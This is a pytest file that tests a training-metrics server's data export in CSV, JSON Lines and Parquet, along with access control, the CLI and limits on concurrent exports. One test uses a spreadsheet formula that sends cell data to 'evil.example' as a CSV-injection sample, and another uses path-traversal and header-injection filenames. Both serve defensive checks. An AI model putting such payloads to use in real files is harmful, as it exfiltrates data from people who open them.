"""Full-resolution export (#20): every point as sent, NaN/Inf included, in CSV, JSON Lines and
Parquet, streamed by a real server on SQLite and PostgreSQL; its access rules; the CLI."""

from __future__ import annotations

import csv
import io
import itertools
import json
import math
import os
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from harness.polling import wait_for
from harness.processes import ServerProcess, create_token, running_server, stream
from trainvitals import Run, resolve
from trainvitals.protocol import Columns
from trainvitals.server.storage.codec import CURRENT
from trainvitals.server.storage.schema import chunks
from trainvitals.server.storage.series import BLOCK_POINTS, EXPORT_BATCH_ROWS
from trainvitals.server.store import Store

#: Points per series: more than one batch of chunk rows and one Parquet row group.
POINTS = 70_000
FRAME = 100  # points a frame, so POINTS / FRAME = 700 chunk rows > EXPORT_BATCH_ROWS


@pytest.fixture
def served(db_url: str) -> Iterator[ServerProcess]:
    """A real server on each of SQLite and PostgreSQL."""
    with running_server(db_url) as server:
        yield server


def sent_points() -> dict[str, tuple[np.ndarray, np.ndarray, np.ndarray]]:
    rng = np.random.default_rng(20)
    steps = np.arange(1, POINTS + 1, dtype=np.int64)
    times = 1.7e9 + np.cumsum(rng.uniform(0.01, 0.02, POINTS))
    loss = np.exp(-steps / 20_000) + rng.normal(0, 1e-3, POINTS)
    loss[[5, 6, 7, 70, 69_999]] = [math.nan, math.inf, -math.inf, -0.0, 5e-324]
    norm = rng.lognormal(0, 2, POINTS)
    return {"loss": (steps, times, loss), 'grad/norm/dense,1 "kernel"': (steps, times, norm)}


def stream_points(server: ServerProcess, token: str | None = None, project: str = "x") -> str:
    run = Run(resolve(server=server.url, project=project, token=token),
              system_metrics=False, watchdog=False)  # fmt: skip
    run.start()
    points = sent_points()
    for start in range(0, POINTS, FRAME):
        part = slice(start, start + FRAME)
        run.add_columns({n: Columns(s[part].tolist(), t[part].tolist(), v[part].tolist())
                         for n, (s, t, v) in points.items()})  # fmt: skip
    assert run.finish(timeout=60)
    return run.id


def fetch(server: ServerProcess, path: str, token: str | None = None) -> tuple[int, bytes]:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    try:
        with urllib.request.urlopen(
            urllib.request.Request(server.url + path, headers=headers), timeout=60
        ) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def same_bits(a: np.ndarray, b: np.ndarray) -> bool:
    return a.dtype == b.dtype and a.tobytes() == b.tobytes()


def test_every_format_gives_back_exactly_what_was_sent(served: ServerProcess) -> None:
    run_id = stream_points(served)
    sent = sent_points()
    names = "&".join(f"name={urllib.parse.quote(n)}" for n in sent)
    assert POINTS // FRAME > EXPORT_BATCH_ROWS

    status, body = fetch(served, f"/api/v1/runs/{run_id}/export?{names}&format=csv")
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == ["name", "step", "time", "value"]
    for name, (steps, times, values) in sent.items():
        got = [r for r in rows[1:] if r[0] == name]
        assert same_bits(np.array([int(r[1]) for r in got]), steps)
        assert same_bits(np.array([float(r[2]) for r in got]), times)
        assert same_bits(np.array([float(r[3]) for r in got]), values)  # NaN, -0.0 included
    assert b"\nloss,6,1" in body and b",nan\n" in body and b",-inf\n" in body

    status, body = fetch(served, f"/api/v1/runs/{run_id}/export?{names}&format=jsonl")
    assert status == 200
    records: list[dict[str, Any]] = [json.loads(line) for line in body.splitlines()]
    assert len(records) == 2 * POINTS
    odd = [r for r in records if r["value"] is None]
    assert [r["nonfinite"] for r in odd] == ["nan", "inf", "-inf"]
    for name, (steps, times, values) in sent.items():
        its = [r for r in records if r["name"] == name]
        restored = [r["value"] if r["value"] is not None else float(r["nonfinite"]) for r in its]
        assert same_bits(np.array([r["step"] for r in its]), steps)
        assert same_bits(np.array([r["time"] for r in its]), times)
        assert same_bits(np.array(restored), values)

    status, body = fetch(served, f"/api/v1/runs/{run_id}/export?{names}&format=parquet")
    assert status == 200
    parquet = pq.ParquetFile(io.BytesIO(body))
    assert parquet.metadata.num_row_groups >= 2  # written a row group at a time
    table = parquet.read()
    assert table.column_names == ["name", "step", "time", "value"]
    for name, (steps, times, values) in sent.items():
        mine = table.filter(table["name"].to_numpy(zero_copy_only=False) == name)
        assert same_bits(mine["step"].to_numpy(), steps)
        assert same_bits(mine["time"].to_numpy(), times)
        assert same_bits(mine["value"].to_numpy(), values)

    # A step range (a zoomed chart's download): those points only, across batches of rows.
    status, body = fetch(
        served, f"/api/v1/runs/{run_id}/export?name=loss&min_step=5&max_step=60001&format=csv"
    )
    assert status == 200
    steps_got = [int(line.split(b",")[1]) for line in body.splitlines()[1:]]
    assert steps_got == list(range(5, 60_002))

    # Every series when none is named; the file's name in the answer's headers.
    with urllib.request.urlopen(served.url + f"/api/v1/runs/{run_id}/export") as response:
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{run_id}.csv"'
        assert len(response.read().splitlines()) == 1 + 2 * POINTS


def test_the_servers_compactor_keeps_every_point(db_url: str) -> None:
    server = ServerProcess(db_url, extra_env={"TRAINVITALS_COMPACT_INTERVAL": "0.2"})
    store = Store(db_url)
    try:
        run_id = stream_points(server)
        wait_for(lambda: not store.series.runs_to_compact(0, 1), what="the run compacted")
        with store.engine.connect() as conn:
            layout = conn.execute(
                select(chunks.c.series, chunks.c.encoding, chunks.c.n).order_by(
                    chunks.c.series, chunks.c.seq
                )
            ).all()
        seen = f"blocks {layout}; the server said: {server.output()[-3000:]}"
        assert {encoding for _, encoding, _ in layout} == {CURRENT}, seen
        blocks: dict[str, list[int]] = {}
        for name, _, n in layout:
            blocks.setdefault(name, []).append(n)
        assert sorted(blocks) == sorted(sent_points()), seen
        for sizes in blocks.values():
            assert sum(sizes) == POINTS and len(sizes) >= 2, seen  # 70,000 points > a block
            # Neighbours are one block wherever they fit in one, except beside a block of at
            # least half a block, left as it is (one made before the run ended). Usually two
            # blocks a series; once in CI, three, so a compaction had come before the end.
            for first, second in itertools.pairwise(sizes):
                assert first + second > BLOCK_POINTS or max(first, second) >= BLOCK_POINTS // 2, (
                    seen
                )
        status, body = fetch(server, f"/api/v1/runs/{run_id}/export?format=parquet")
        assert status == 200
        table = pq.read_table(io.BytesIO(body))
        for name, (steps, times, values) in sent_points().items():
            mine = table.filter(table["name"].to_numpy(zero_copy_only=False) == name)
            assert same_bits(mine["step"].to_numpy(), steps)
            assert same_bits(mine["time"].to_numpy(), times)
            assert same_bits(mine["value"].to_numpy(), values)
    finally:
        store.dispose()
        server.stop()


def named_run(server: ServerProcess, name: str, series: dict[str, list[float]]) -> str:
    """A finished run called ``name`` with ``series``, each a value a step from step 1."""
    run = Run(resolve(server=server.url, project="p", run_name=name),
              system_metrics=False, watchdog=False)  # fmt: skip
    run.start()
    for name_, values in series.items():
        steps = list(range(1, len(values) + 1))
        run.add_columns({name_: Columns(steps, [1.7e9 + s for s in steps], values)})
    assert run.finish()
    return run.id


def test_several_runs_export_as_one_file_each_row_naming_its_run(server: ServerProcess) -> None:
    """The compare view's download: the runs' points in one file, run after run in the order
    asked, each row with its run's id and name; a series one run lacks is left out of it."""
    first = named_run(server, 'base, "lr=1e-3"', {"loss": [0.9, 0.5, math.nan], "acc": [0.1]})
    second = named_run(server, "wide", {"loss": [1.2, -math.inf]})
    runs = f"run={second}&run={first}&run={second}"  # a run asked twice is given once

    status, body = fetch(server, f"/api/v1/export?{runs}&name=loss&name=acc")
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == ["run_id", "run_name", "name", "step", "time", "value"]
    assert [(r[0], r[1], r[2], r[3], r[5]) for r in rows[1:]] == [
        (second, "wide", "loss", "1", "1.2"),
        (second, "wide", "loss", "2", "-inf"),
        (first, 'base, "lr=1e-3"', "loss", "1", "0.9"),
        (first, 'base, "lr=1e-3"', "loss", "2", "0.5"),
        (first, 'base, "lr=1e-3"', "loss", "3", "nan"),
        (first, 'base, "lr=1e-3"', "acc", "1", "0.1"),
    ]
    assert float(rows[1][4]) == 1.7e9 + 1

    status, body = fetch(server, f"/api/v1/export?run={first}&run={second}&format=jsonl"
                                 "&min_step=2&max_step=2")  # fmt: skip
    assert status == 200
    assert [json.loads(line) for line in body.splitlines()] == [
        {"run_id": first, "run_name": 'base, "lr=1e-3"', "name": "loss", "step": 2,
         "time": 1.7e9 + 2, "value": 0.5},
        {"run_id": second, "run_name": "wide", "name": "loss", "step": 2, "time": 1.7e9 + 2,
         "value": None, "nonfinite": "-inf"},
    ]  # fmt: skip

    status, body = fetch(server, f"/api/v1/export?run={first}&run={second}&format=parquet")
    assert status == 200
    table = pq.read_table(io.BytesIO(body))
    assert table.column_names == ["run_id", "run_name", "name", "step", "time", "value"]
    assert table["run_name"].to_pylist() == ['base, "lr=1e-3"'] * 4 + ["wide"] * 2
    assert table["name"].to_pylist() == ["acc", "loss", "loss", "loss", "loss", "loss"]
    assert table["step"].to_pylist() == [1, 1, 2, 3, 1, 2]

    with urllib.request.urlopen(f"{server.url}/api/v1/export?run={first}") as response:
        assert response.headers["Content-Disposition"] == 'attachment; filename="runs.csv"'

    # Refused with a reason: an unknown run, a series no run has, no run, too many runs.
    status, body = fetch(server, f"/api/v1/export?run={first}&run=nope")
    assert (status, json.loads(body)) == (404, {"detail": "No run with id 'nope'"})
    status, body = fetch(server, f"/api/v1/export?run={first}&run={second}&name=lost")
    assert (status, json.loads(body)) == (404, {"detail": "No run asked for has a series 'lost'"})
    status, body = fetch(server, "/api/v1/export?name=loss")
    assert status == 422 and json.loads(body)["detail"][0]["loc"] == ["query", "run"]
    status, body = fetch(server, "/api/v1/export?" + "&".join(f"run=r{i}" for i in range(51)))
    assert status == 422 and json.loads(body)["detail"][0]["loc"] == ["query", "run"]
    assert "at most 50 distinct runs, got 51" in json.loads(body)["detail"][0]["msg"]
    # The cap counts runs, not how often one is named.
    status, body = fetch(server, f"/api/v1/export?{f'run={first}&' * 60}name=acc")
    assert status == 200 and body.decode().count(first) == 1


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    server: ServerProcess,
) -> None:
    """A run or series named by whoever holds an ingest token, opened by a teammate in a
    spreadsheet: a cell that begins with =, +, -, @ is a formula there (CSV injection). The
    CSV writes it after a quote mark; JSON Lines keeps it as sent."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    run_id = named_run(server, formula, {"@SUM(1)": [1.0], "-loss": [2.0], "loss": [-3.0]})
    status, body = fetch(server, f"/api/v1/export?run={run_id}&name=@SUM(1)&name=-loss&name=loss")
    assert status == 200
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
        ("'" + formula, "'@SUM(1)", "1.0"),
        ("'" + formula, "'-loss", "2.0"),
        ("'" + formula, "loss", "-3.0"),  # a negative value is a number, not a name
    ]
    status, body = fetch(server, f"/api/v1/export?run={run_id}&name=-loss&format=jsonl")
    assert [json.loads(line)["run_name"] for line in body.splitlines()] == [formula]


def test_unknown_runs_series_and_formats_are_refused_with_a_reason(
    server: ServerProcess,
) -> None:
    run_id = stream(server, "", "p")
    assert fetch(server, "/api/v1/runs/nope/export") == (
        404,
        b'{"detail":"No run with id \'nope\'"}',
    )
    status, body = fetch(server, f"/api/v1/runs/{run_id}/export?name=loss&name=lost")
    assert (status, json.loads(body)) == (404, {"detail": f"Run {run_id!r} has no series 'lost'"})
    status, body = fetch(server, f"/api/v1/runs/{run_id}/export?format=xlsx")
    assert status == 422 and json.loads(body)["detail"][0]["loc"] == ["query", "format"]
    # A file name goes into a header as it is: plain ASCII only.
    for bad in ("..%2Fx", "a%22b", "%C3%A9t%C3%A9", "a%0Db", ".hidden"):
        status, body = fetch(server, f"/api/v1/runs/{run_id}/export?filename={bad}")
        assert status == 422 and json.loads(body)["detail"][0]["loc"] == ["query", "filename"]


def test_export_needs_read_on_the_runs_project(tmp_path: Path) -> None:
    db = str(tmp_path / "team.db")
    ingest = create_token(db, "p", "ingest", "agents")
    reader = create_token(db, "p", "read", "viewer")
    other = create_token(db, "q", "read", "viewer-q")
    server = ServerProcess(db, args=["--auth", "required"])
    try:
        run_id = stream(server, ingest, "p")
        path = f"/api/v1/runs/{run_id}/export?name=loss"
        assert fetch(server, path)[0] == 401
        status, body = fetch(server, path, other)  # another project's run: as if none
        assert (status, json.loads(body)) == (404, {"detail": f"No run with id {run_id!r}"})
        assert fetch(server, path, ingest)[0] == 403
        status, body = fetch(server, path, reader)
        header, first, second = body.decode().splitlines()
        assert status == 200 and header == "name,step,time,value"
        assert first.startswith("loss,1,") and first.endswith(",0.5")
        assert second.startswith("loss,2,") and second.endswith(",nan")

        # Several runs at once: each must be readable, or the whole export is refused as if
        # the run did not exist (one readable run does not open another project's).
        theirs = stream(server, create_token(db, "q", "ingest", "agents-q"), "q")
        both = f"/api/v1/export?run={run_id}&run={theirs}&name=loss"
        status, body = fetch(server, both, reader)
        assert (status, json.loads(body)) == (404, {"detail": f"No run with id {theirs!r}"})
        assert fetch(server, both)[0] == 401
        assert fetch(server, f"/api/v1/export?run={run_id}", ingest)[0] == 403
        status, body = fetch(server, f"/api/v1/export?run={run_id}&name=loss", reader)
        assert status == 200 and body.decode().splitlines()[1].startswith(f"{run_id},")
    finally:
        server.stop()


def export_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "trainvitals", "export", *args],
        capture_output=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )


def test_the_cli_writes_the_export_to_a_file_or_stdout(tmp_path: Path) -> None:
    db = str(tmp_path / "team.db")
    ingest = create_token(db, "p", "ingest", "agents")
    reader = create_token(db, "p", "read", "viewer")
    server = ServerProcess(db, args=["--auth", "required"])
    try:
        run_id = stream(server, ingest, "p")
        out = tmp_path / "run.parquet"
        done = export_cli(run_id, "--name", "loss", "--format", "parquet", "--server",
                          server.url, "--token", reader, "-o", str(out))  # fmt: skip
        assert done.returncode == 0, done.stderr
        table = pq.read_table(out)
        assert table["step"].to_pylist() == [1, 2] and table["value"].to_pylist()[0] == 0.5
        assert math.isnan(table["value"].to_pylist()[1])

        # The token and server from the environment, as the agent takes them; stdout.
        env = {"TRAINVITALS_SERVER": server.url, "TRAINVITALS_TOKEN": reader}
        done = export_cli(run_id, "--format", "jsonl", env=env)
        assert done.returncode == 0, done.stderr
        lines = [json.loads(line) for line in done.stdout.splitlines()]
        assert {line["name"] for line in lines} == {"loss", "nonfinite/loss"}
        done = export_cli(run_id, "--name", "loss", "--format", "jsonl", "--min-step", "2",
                          "--max-step", "2", env=env)  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert [json.loads(line)["step"] for line in done.stdout.splitlines()] == [2]
        # Several runs: one file, each row with its run.
        other = stream(server, ingest, "p")
        done = export_cli(run_id, other, "--name", "loss", "--format", "jsonl", env=env)
        assert done.returncode == 0, done.stderr
        rows = [json.loads(line) for line in done.stdout.splitlines()]
        assert [(row["run_id"], row["step"]) for row in rows] == [
            (run_id, 1), (run_id, 2), (other, 1), (other, 2)
        ]  # fmt: skip

        refused = export_cli(run_id, "--server", server.url, "-o", str(tmp_path / "no.csv"))
        assert refused.returncode == 1
        assert b"401: a token is required" in refused.stderr
        assert not (tmp_path / "no.csv").exists() and not (tmp_path / "no.csv.part").exists()
        missing = export_cli("nope", "--server", server.url, "--token", reader)
        assert missing.returncode == 1 and b"404: No run with id 'nope'" in missing.stderr
    finally:
        server.stop()
    unreachable = export_cli(run_id, "--server", server.url, "--token", reader)
    assert unreachable.returncode == 1 and b"could not read from" in unreachable.stderr


def test_exports_at_once_are_bounded_and_a_slot_comes_back(tmp_path: Path) -> None:
    """Each export reads a run's every point: past ``TRAINVITALS_MAX_EXPORTS`` streaming at
    once, another is 503 with Retry-After; one abandoned mid-stream gives its slot back."""
    import http.client

    server = ServerProcess(str(tmp_path / "tv.db"), extra_env={"TRAINVITALS_MAX_EXPORTS": "1"})
    try:
        steps = list(range(1, 400_001))  # some 20 MB of CSV: more than the sockets buffer
        run = Run(resolve(server=server.url, project="p", run_name="big"),
                  system_metrics=False, watchdog=False)  # fmt: skip
        run.start()
        run.add_columns({"loss": Columns(steps, [1.7e9 + s for s in steps], [0.5] * len(steps))})
        assert run.finish(timeout=60)
        run_id = run.id
        held = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        held.request("GET", f"/api/v1/runs/{run_id}/export")
        response = held.getresponse()
        assert response.status == 200 and response.read(1024)  # streaming, not read further
        status, body = fetch(server, f"/api/v1/runs/{run_id}/export")
        assert status == 503 and b"try again" in body
        held.close()  # the client goes away mid-stream
        wait_for(lambda: fetch(server, f"/api/v1/runs/{run_id}/export?max_step=5")[0] == 200,
                 what="the abandoned export's slot back")  # fmt: skip
    finally:
        server.stop()
